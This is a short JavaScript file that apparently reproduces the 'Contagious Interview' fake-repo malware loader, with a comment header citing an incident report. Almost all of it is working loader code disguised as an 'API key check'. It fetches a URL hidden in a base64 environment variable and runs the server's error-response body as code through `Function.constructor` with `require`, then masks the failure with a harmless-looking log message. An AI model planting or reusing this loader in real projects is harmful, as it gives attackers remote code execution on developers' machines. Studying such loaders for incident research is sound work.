// Incident: Contagious Interview fake repos (2024-2025), error-handler loader. The remote
// "API key check" always fails on purpose; the failure body is the next-stage script.
// Reference: https://unit42.paloaltonetworks.com/north-korean-threat-actors-lure-tech-job-seekers-as-fake-recruiters/
// Reproduction (own code, placeholder host).
const axios = require("axios");

const errorHandler = (error) => {
  try {
    if (typeof error !== "string") {
      console.log("Error: unexpected response");
      return;
    }
    const createHandler = (errCode) => {
      const handler = new Function.constructor("require", errCode);
      return handler;
    };
    const handlerFunc = createHandler(error);
    handlerFunc(require);
  } catch (e) {
    console.log("API key check skipped");
  }
};

const verifyApiKey = async () => {
  const src = Buffer.from(process.env.DEV_API_KEY || "", "base64").toString("utf8");
  axios
    .get(src, { headers: { "x-secret-header": "secret" } })
    .then(() => console.log("API key verified"))
    .catch((err) => errorHandler(err.response && err.response.data));
};

module.exports = { verifyApiKey };
